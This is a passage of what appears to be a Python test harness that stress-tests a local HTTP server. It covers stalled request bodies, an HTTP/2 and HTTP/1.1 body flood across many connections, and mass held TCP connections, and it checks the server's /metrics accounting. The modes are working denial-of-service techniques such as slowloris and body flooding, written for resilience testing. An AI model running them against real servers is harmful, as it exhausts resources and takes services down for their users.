    timeout must end it (504), then close the HTTP/1.1 connection and reset the HTTP/2 stream."""
    path = DEMO + "/echo"
    start = time.monotonic()
    tls = Tls(args.port)
    tls.send(h1_request("POST", path, headers=["Content-Length: 1000"] + h1_bearer(args))[:-2] + b"\r\n\r\n" +
             b"p" * 100)
    # 900 bytes still to come: the server may drain them to keep the connection, bounded by its read-header
    # timeout, after which it closes.
    status, _, body, closed = h1_answer(tls, args.seconds, close_wait=args.seconds)
    h1_ms = int((time.monotonic() - start) * 1000)
    start = time.monotonic()
    client = RawH2(args.port)
    client.headers(1, "POST", path, bearer(args))
    client.data(1, b"q" * 100)
    client.read_until(lambda: client.streams[1]["reset"] is not None or client.closed, args.seconds)
    st = client.streams[1]
    report(h1_status=status, h1_reason=json_field(body, "reason"), h1_closed=int(closed), h1_ms=h1_ms,
           h2_status=st["status"], h2_reason=json_field(st["body"], "reason"),
           h2_reset=-1 if st["reset"] is None else st["reset"], h2_ms=int((time.monotonic() - start) * 1000))


def body_flood(args):
    """Unauthenticated clients that send bodies and never finish them: --connections HTTP/2 connections x 100
    streams x 256 KiB of DATA without END_STREAM, and as many HTTP/1.1 connections announcing --body-limit bytes and
    sending all but one. Then, with every connection still open, scrapes the server's own accounting of held
    request bodies (/metrics, with --token) and counts the answers the clients got."""
    raise_fd_limit()
    h2_clients = []
    for _ in range(args.connections):
        client = RawH2(args.port)
        for i in range(100):
            sid = 2 * i + 1
            client.headers(sid, "POST", DEMO + "/echo")
            if not client.data(sid, b"f" * (256 * 1024)):
                break
            client.read(0.0)
        h2_clients.append(client)
    h1_socks = []
    for _ in range(args.connections):
        tls = Tls(args.port)
        tls.send(h1_request("POST", DEMO + "/echo", headers=["Content-Length: %d" % args.body_limit])[:-2] + b"\r\n\r\n")
        tls.sock.setblocking(False)
        sent = 0
        payload = b"g" * 65536
        deadline = time.monotonic() + 2.0
        while sent < args.body_limit - 1 and time.monotonic() < deadline:
            try:
                tls.obj.write(payload[:min(len(payload), args.body_limit - 1 - sent)])
                data = tls.outgoing.read()
                tls.sock.send(data)
                sent += min(len(payload), args.body_limit - 1 - sent)
            except (BlockingIOError, ssl.SSLWantWriteError):
                time.sleep(0.01)
            except OSError:
                break
        tls.sock.setblocking(True)
        h1_socks.append(tls)
    for client in h2_clients:
        client.read(0.2)
    time.sleep(args.seconds)
    for client in h2_clients:
        client.read(0.2)
    # The server's accounting while everything is still open.
    tls = Tls(args.port)
    tls.send(h1_request("GET", "/metrics", headers=h1_bearer(args)))
    status, _, body, _ = h1_answer(tls, 10.0)
    held = -1
    for line in body.decode("utf-8", "replace").splitlines():
        if line.startswith("apiserve_request_body_buffered_bytes "):
            held = int(float(line.split()[1]))
    answered = sum(1 for c in h2_clients for st in c.streams.values() if st["status"])
    reset = sum(1 for c in h2_clients for st in c.streams.values() if st["reset"] is not None)
    h1_answered = 0
    for tls in h1_socks:
        data = tls.recv(0.5)
        if data and data.startswith(b"HTTP/1.1 "):
            h1_answered += 1
    report(metrics_status=status, held_bytes=held, h2_streams_answered=answered, h2_streams_reset=reset,
           h1_answered=h1_answered)
    for client in h2_clients:
        client.tls.close()
    for tls in h1_socks:
        tls.close()


# --- plain connections (fd exhaustion, max connections) ----------------------------------------------------------


def hold(args):
    """Opens --connections TCP connections (no TLS) and holds them for --seconds."""
    raise_fd_limit()
    socks = []
    errors = 0
    for _ in range(args.connections):
        try:
            socks.append(socket.create_connection(("127.0.0.1", args.port), timeout=2.0))
        except OSError:
            errors += 1
    report(opened=len(socks), errors=errors)
    time.sleep(args.seconds)
    for s in socks:
        s.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--attack", default="")
    parser.add_argument("--body-limit", type=int, default=3 * 1024 * 1024)
    parser.add_argument("--h1-workers", type=int, default=4)
    parser.add_argument("--h2-workers", type=int, default=2)
    parser.add_argument("--token", default="", help="bearer token for the modes that authenticate")
    args = parser.parse_args()
    modes = {"slowloris": slowloris, "garbage": garbage, "oversize": oversize, "h2": h2_attack,
             "half_close": half_close, "no_read": no_read, "shutdown_load": shutdown_load, "hold": hold,
             "early_answer": early_answer, "over_limit": over_limit, "stalled_body": stalled_body,
             "body_flood": body_flood}
    modes[args.mode](args)


if __name__ == "__main__":
    main()
